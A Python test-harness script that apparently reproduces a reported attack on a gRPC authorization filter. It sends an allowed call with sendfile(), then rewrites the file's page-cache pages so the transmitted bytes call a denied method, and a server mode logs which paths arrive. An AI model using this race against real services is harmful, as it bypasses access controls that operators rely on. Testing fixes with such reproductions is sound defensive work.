#!/usr/bin/env python3
"""A caller that sends a gRPC call from its page cache and rewrites the file
right after (issue 11's attacker: the bytes a verdict read must be the bytes
the server reads).

  sendfile_race.py client HOST PORT ALLOWED DENIED [AFTER]
      sends the preface and SETTINGS, then writes a call to ALLOWED (HEADERS +
      DATA) to a file and sends it with sendfile() (the socket's buffers then hold the file's
      page cache pages, zero-copy, as far as the server's host), then rewrites
      the file in place so the same bytes call DENIED (the header block keeps
      its length: a padding header gives up what the longer :path takes).
      Prints "sent N" and keeps the connection open for a second.

  sendfile_race.py server PORT DELAY [ACCEPT_AFTER]
      accepts one connection (ACCEPT_AFTER seconds after it listens, default
      0: a caller's first segments wait in the queue of a socket nobody has
      accepted, where TCP merges them), reads the preface and SETTINGS, waits
      DELAY seconds (a busy server reads late),
      then reads until the caller closes and prints the :path of every
      request HEADERS frame it read ("path /pkg.Svc/Method"), decoded with
      python-hpack; "closed" or "reset" at the end. The preface and the
      SETTINGS frame are read as they come.
"""
import os
import socket
import sys
import tempfile
import time

# the crafted client's frames (table-neutral literals, a padding header)
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from attack import PREFACE, SETTINGS, call, headers_block  # noqa: E402


def same_size_calls(allowed, denied):
    """a call to each method, their header blocks padded to one length"""
    size = max(len(headers_block(allowed, b"x")), len(headers_block(denied, b"x")))
    # the padding header "x: <pad>" takes 4 + pad bytes of the block
    first, second = (call(1, m, b"x", pad=size - len(headers_block(m, b"x"))) for m in (allowed, denied))
    assert len(first) == len(second)
    return first, second


def client(host, port, allowed, denied, after="0.2"):
    first, second = same_size_calls(allowed.encode(), denied.encode())
    with tempfile.TemporaryFile(dir="/var/tmp") as f:
        f.write(first)
        f.flush()
        s = socket.create_connection((host, int(port)))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.sendall(PREFACE + SETTINGS)
        time.sleep(0.1)  # the server has read these: the connection is walked
        n = os.sendfile(s.fileno(), f.fileno(), 0, len(first))
        time.sleep(float(after))
        os.pwrite(f.fileno(), second, 0)  # the same pages, the call now to `denied`
        print("sent", n, flush=True)
        time.sleep(1)
        s.close()


def server(port, delay, accept_after="0"):
    import hpack
    ls = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("::", int(port)))
    ls.listen(1)
    print("listening", flush=True)
    time.sleep(float(accept_after))
    c, _ = ls.accept()
    c.settimeout(10)
    data, end = b"", "closed"
    while len(data) < len(PREFACE) + 9:  # the preface and SETTINGS: read at once
        b = c.recv(len(PREFACE) + 9 - len(data))
        if not b:
            break
        data += b
    time.sleep(float(delay))
    while True:
        try:
            b = c.recv(65536)
        except ConnectionResetError:
            end = "reset"
            break
        if not b:
            break
        data += b
    if data.startswith(PREFACE):
        data = data[len(PREFACE):]
    dec = hpack.Decoder()
    while len(data) >= 9:
        n = int.from_bytes(data[:3], "big")
        ftype, flags, payload = data[3], data[4], data[9:9 + n]
        if len(payload) < n:
            break
        data = data[9 + n:]
        if ftype == 1:
            try:
                for name, value in dec.decode(payload, raw=True):
                    if name == b":path":
                        print("path", value.decode(errors="replace"), flush=True)
            except hpack.HPACKError as e:
                print("hpack error", e, flush=True)
    print(end, flush=True)


if __name__ == "__main__":
    if len(sys.argv) in (6, 7) and sys.argv[1] == "client":
        client(*sys.argv[2:])
    elif len(sys.argv) in (4, 5) and sys.argv[1] == "server":
        server(*sys.argv[2:])
    else:
        sys.exit(__doc__)
